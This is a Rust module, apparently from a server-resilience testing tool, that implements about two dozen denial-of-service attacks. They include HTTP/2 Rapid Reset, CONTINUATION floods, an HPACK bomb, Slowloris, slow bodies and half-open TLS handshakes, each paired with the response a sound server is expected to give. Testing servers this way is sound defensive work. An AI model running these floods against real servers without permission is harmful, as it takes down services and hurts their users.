//! The attacks.

use std::io::{self, Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use crate::client::{Client, Target};
use crate::frame::{self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, SETTINGS};
use crate::holding;
use crate::quic::QuicAttack;

/// What a connection does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// CVE-2023-44487: requests that are reset as soon as they are sent.
    RapidReset,
    /// CVE-2025-8671: the client's own errors make the server reset what it has just begun.
    WindowIncrementZero,
    WindowOverflow,
    PriorityLength,
    PriorityOnItself,
    HeadersAfterEnd,
    DataAfterEnd,
    /// CVE-2024-27316 and its kin: a header block that never ends, with fields and without.
    Continuations,
    EmptyContinuations,
    /// CVE-2019-9512, 9514, 9515, 9518: frames for nothing.
    Settings,
    Pings,
    Priorities,
    WindowUpdates,
    EmptyData,
    /// New keys for the connection, again and again (RFC 8446 section 4.6.3).
    KeyUpdates,
    /// CVE-2016-6581: a small header block that decodes to a large list.
    HpackBomb,
    /// CVE-2026-47774: a cookie in thousands of pieces.
    CookieCrumbs,
    /// CVE-2019-9511, 9517: answers that are asked for and never taken.
    ZeroWindow,
    /// The same with windows wide open, and a socket that is no longer read.
    UnreadAnswers,
    /// Large heads of requests that do not end, many at once.
    OpenHeads,
    /// Answers that are never taken over HTTP/1.1.
    SlowRead,
    /// Slowloris: a request head, byte by byte.
    SlowHead,
    /// A request body that stops.
    StalledBody,
    /// A body, byte by byte. Streams of messages look like that, so it is borne; on a full server it gives way to others.
    SlowBody,
    /// A ClientHello that stops.
    HalfOpen,
    /// The same and more over QUIC.
    Quic(QuicAttack),
}

/// What a sound server does about it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum End {
    /// Ends the connection.
    Cut,
    /// Gives every stream up after a while.
    Reset,
    /// Refuses each request alone, at little cost, and ends the connection after some of them.
    Refused,
    /// Closes what breaks the rules, and bears the rest at little cost.
    Borne,
}

/// How it went.
#[derive(Clone, Copy, Debug, Default)]
pub struct Outcome {
    /// Requests that were begun.
    pub requests: u64,
    /// The server did what [`Attack::end`] says, within the time.
    pub ended: bool,
}

/// Pieces of a flood that goes on and on are sent many at a time: the bound is on frames and not on packets.
const AT_ONCE: u32 = 50;
/// Requests of an attack whose requests are refused alone.
const REFUSED_REQUESTS: u32 = 200;
/// Of a body that comes byte by byte.
const SLOW_BODY_BYTES: u32 = 50;

#[expect(clippy::wildcard_enum_match_arm, reason = "each function is about some of the attacks")]
impl Attack {
    const ALL: [Self; 25] = [
        Self::RapidReset,
        Self::WindowIncrementZero,
        Self::WindowOverflow,
        Self::PriorityLength,
        Self::PriorityOnItself,
        Self::HeadersAfterEnd,
        Self::DataAfterEnd,
        Self::Continuations,
        Self::EmptyContinuations,
        Self::Settings,
        Self::Pings,
        Self::Priorities,
        Self::WindowUpdates,
        Self::EmptyData,
        Self::KeyUpdates,
        Self::HpackBomb,
        Self::CookieCrumbs,
        Self::ZeroWindow,
        Self::UnreadAnswers,
        Self::OpenHeads,
        Self::SlowRead,
        Self::SlowHead,
        Self::StalledBody,
        Self::SlowBody,
        Self::HalfOpen,
    ];

    /// All attacks over TCP, then those over QUIC.
    pub fn all() -> impl Iterator<Item = Self> {
        Self::ALL.into_iter().chain(QuicAttack::ALL.into_iter().map(Self::Quic))
    }

    pub fn end(self) -> End {
        match self {
            Self::Quic(_) | Self::SlowBody => End::Borne,
            Self::ZeroWindow => End::Reset,
            Self::HpackBomb | Self::CookieCrumbs => End::Refused,
            _ => End::Cut,
        }
    }

    /// Whether each connection has as many requests under way as it may.
    pub fn is_of_many(self) -> bool {
        matches!(
            self,
            Self::ZeroWindow | Self::UnreadAnswers | Self::OpenHeads | Self::Quic(QuicAttack::ZeroWindow)
        )
    }

    /// Runs on one connection until the server ends it, or for so long.
    ///
    /// # Errors
    /// When there is no connection to begin with.
    pub fn run(self, target: &Target, time: Duration) -> io::Result<Outcome> {
        let until = now() + time;
        match self {
            Self::Quic(attack) => attack.run(target, until),
            Self::HalfOpen => half_open(target, until),
            Self::SlowHead => slow_head(target, until),
            Self::StalledBody => stalled_body(target, until),
            Self::SlowBody => slow_body(target, until),
            Self::SlowRead => slow_read(target, until),
            Self::ZeroWindow => holding::zero_window(target, until),
            Self::UnreadAnswers => holding::unread_answers(target, until),
            Self::OpenHeads => holding::open_heads(target, until),
            Self::KeyUpdates => key_updates(target, until),
            Self::HpackBomb | Self::CookieCrumbs => self.refused(target, until),
            _ => self.flood(target, until),
        }
    }

    fn flood(self, target: &Target, until: Instant) -> io::Result<Outcome> {
        let host = target.host.as_str();
        let mut client = Client::http2(target, &frame::frame(SETTINGS, 0, 0, &[]))?;
        client.send(&self.opening(host));
        let mut requests = u64::from(!self.opening(host).is_empty());
        let asks = self.is_of_requests();
        for number in 0..u32::MAX / 4 {
            if client.seen.ended || now() > until {
                break;
            }
            let repeat = if asks { 1 } else { AT_ONCE };
            client.send(&self.piece(number, host).repeat(repeat as usize));
            requests += u64::from(asks);
            client.read_frames();
        }
        Ok(Outcome { requests, ended: sees_end(&mut client, until) })
    }

    fn is_of_requests(self) -> bool {
        matches!(
            self,
            Self::RapidReset
                | Self::WindowIncrementZero
                | Self::WindowOverflow
                | Self::PriorityLength
                | Self::PriorityOnItself
                | Self::HeadersAfterEnd
                | Self::DataAfterEnd
        )
    }

    /// What has to be sent once, first.
    fn opening(self, host: &str) -> Vec<u8> {
        match self {
            Self::EmptyData => frame::post(1, host),
            Self::Continuations | Self::EmptyContinuations => {
                frame::frame(HEADERS, END_STREAM, 1, &frame::get_block(host))
            }
            _ => Vec::new(),
        }
    }

    /// What is sent again and again.
    fn piece(self, number: u32, host: &str) -> Vec<u8> {
        let stream = frame::stream(number);
        let get = || frame::get(stream, host);
        match self {
            Self::RapidReset => [get(), frame::reset(stream)].concat(),
            Self::WindowIncrementZero => [get(), frame::window_update(stream, 0)].concat(),
            Self::WindowOverflow => [get(), frame::window_update(stream, 0x7fff_ffff)].concat(),
            Self::PriorityLength => [get(), frame::frame(PRIORITY, 0, stream, &[0; 4])].concat(),
            Self::PriorityOnItself => {
                let depends_on = [&stream.to_be_bytes()[..], &[15]].concat();
                [get(), frame::frame(PRIORITY, 0, stream, &depends_on)].concat()
            }
            Self::HeadersAfterEnd => [get(), get()].concat(),
            Self::DataAfterEnd => [get(), frame::frame(DATA, END_STREAM, stream, b"x")].concat(),
            Self::Continuations => frame::frame(CONTINUATION, 0, 1, &frame::literal("x", &[b'y'; 1000])),
            Self::EmptyContinuations => frame::frame(CONTINUATION, 0, 1, &[]),
            Self::Settings => frame::frame(SETTINGS, 0, 0, &[]),
            Self::Pings => frame::frame(PING, 0, 0, &[7; 8]),
            Self::Priorities => frame::frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 9]),
            Self::WindowUpdates => frame::window_update(0, 1),
            Self::EmptyData => frame::frame(DATA, 0, 1, &[]),
            _ => Vec::new(),
        }
    }

    /// Requests that cost little to send and would cost much to hold.
    fn refused(self, target: &Target, until: Instant) -> io::Result<Outcome> {
        let mut client = Client::http2(target, &frame::frame(SETTINGS, 0, 0, &[]))?;
        let fields = match self {
            // One field of 3 KiB in the table of 4 KiB, named 4,000 times: 12 MiB.
            Self::HpackBomb => [frame::indexed_literal("x", &[b'y'; 3000]), vec![0x80 | 62; 4000]].concat(),
            // 4,000 pieces of 3 bytes, each counted with 32 more (RFC 9113 section 6.5.2).
            _ => frame::literal("cookie", b"a=b").repeat(4000),
        };
        let block = [frame::get_block(&target.host), fields].concat();
        let mut requests = 0;
        for number in 0..REFUSED_REQUESTS {
            if client.seen.ended || now() > until {
                break;
            }
            client.send(&in_frames(frame::stream(number), &block));
            client.read_frames();
            requests += 1;
        }
        Ok(Outcome { requests, ended: sees_end(&mut client, until) })
    }
}

/// What the server said to what was sent last may still be on its way.
fn sees_end(client: &mut Client, until: Instant) -> bool {
    while !client.seen.ended && now() < until {
        client.look();
        client.read_frames();
    }
    client.seen.ended
}

/// A header block in as many frames as it takes.
fn in_frames(stream: u32, block: &[u8]) -> Vec<u8> {
    const FRAME_BYTES: usize = 16 * 1024;
    let count = block.chunks(FRAME_BYTES).len();
    let piece = |(index, part): (usize, &[u8])| {
        let kind = if index == 0 { HEADERS } else { CONTINUATION };
        let end_stream = if index == 0 { END_STREAM } else { 0 };
        let end_headers = if index + 1 == count { END_HEADERS } else { 0 };
        frame::frame(kind, end_stream | end_headers, stream, part)
    };
    block.chunks(FRAME_BYTES).enumerate().flat_map(piece).collect()
}

fn key_updates(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = Client::connect(target, "h2")?;
    while !client.seen.ended && now() < until {
        client.update_key();
    }
    Ok(Outcome { requests: 0, ended: client.seen.ended })
}

fn slow_read(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = Client::connect(target, "http/1.1")?;
    client.send(format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", target.host).as_bytes());
    client.sleep(until.saturating_duration_since(now()));
    // Only now it shows: what the kernels hold, and then the end instead of the rest.
    let patience = now() + Duration::from_secs(10);
    while !client.seen.ended && now() < patience {
        client.look();
    }
    Ok(Outcome { requests: 1, ended: client.seen.ended })
}

fn slow_head(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = Client::connect(target, "http/1.1")?;
    client.send(format!("GET / HTTP/1.1\r\nHost: {}\r\nX: ", target.host).as_bytes());
    while !client.seen.ended && now() < until {
        client.send(b"y");
        client.sleep(Duration::from_millis(200));
        client.receive();
    }
    Ok(Outcome { requests: 0, ended: client.seen.ended })
}

fn stalled_body(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = Client::connect(target, "http/1.1")?;
    let host = &target.host;
    client.send(format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000\r\n\r\nabc").as_bytes());
    while !client.seen.ended && now() < until {
        client.look();
    }
    Ok(Outcome { requests: 1, ended: client.seen.ended })
}

fn slow_body(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = Client::connect(target, "http/1.1")?;
    let host = &target.host;
    client.send(format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\n").as_bytes());
    for _ in 0..SLOW_BODY_BYTES {
        if client.seen.ended || now() > until {
            break;
        }
        client.send(b"y");
        client.sleep(Duration::from_millis(200));
        client.receive();
    }
    // Cut or borne: both are sound.
    Ok(Outcome { requests: 1, ended: true })
}

fn half_open(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut socket = TcpStream::connect(target.address)?;
    socket.set_read_timeout(Some(until.saturating_duration_since(now()).max(Duration::from_millis(1))))?;
    // The beginning of a record that would hold a ClientHello.
    socket.write_all(&[22, 3, 1, 2, 0, 1])?;
    let ended = match socket.read(&mut [0; 64]) {
        Ok(_) => true,
        Err(error) => !matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut),
    };
    Ok(Outcome { requests: 0, ended })
}

#[expect(clippy::disallowed_methods, reason = "an attacker has no other clock")]
pub(crate) fn now() -> Instant {
    Instant::now()
}
